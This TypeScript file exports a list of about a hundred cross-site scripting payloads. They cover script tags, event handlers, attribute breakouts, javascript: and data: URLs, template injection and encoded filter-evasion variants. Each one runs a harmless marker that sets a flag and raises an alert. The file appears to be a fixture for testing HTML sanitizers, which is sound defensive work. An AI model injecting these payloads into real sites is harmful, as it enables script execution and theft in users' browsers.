/** What runs when it is set. */
const RUN = 'window.__pwned=1;alert(1)'

const tags = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script>/*<![CDATA[*/${RUN}/*]]>*/</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
]

const EVENTS = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['style', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['a tabindex=1', 'onfocus'],
  ['div', 'onpointerenter'],
  ['button', 'onclick'],
  ['form', 'onsubmit'],
  ['p style=animation-name:x', 'onanimationstart'],
] as const

const events = EVENTS.flatMap(([tag, event]) => [`<${tag} ${event}="${RUN}">`, `"><${tag} ${event}=${RUN}>`])

const attributes = [
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `" autofocus onfocus="${RUN}`,
  `x" style="animation-name:x" onanimationstart="${RUN}`,
  `\`><img src=x onerror=${RUN}>`,
]

const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `  javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<a href="javascript:${RUN}">open</a>`,
  `<form action="javascript:${RUN}"><button>go</button></form>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<base href="javascript:/${RUN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
]

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  '<%= ' + RUN + ' %>',
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `{"$$typeof":"react.element","type":"script"}`,
  `%3Cscript%3E${encodeURIComponent(RUN)}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `</script><script>${RUN}</script>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div style="width:expression(${RUN})">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<img src="x\` onerror=${RUN}\`">`,
  `<img/src=x/onerror=${RUN}>`,
]

/** A hundred texts that become a running script wherever text is put into a page as markup. */
export const markupStrings: readonly string[] = [
  ...tags,
  ...events,
  ...attributes,
  ...addresses,
  ...templates,
]
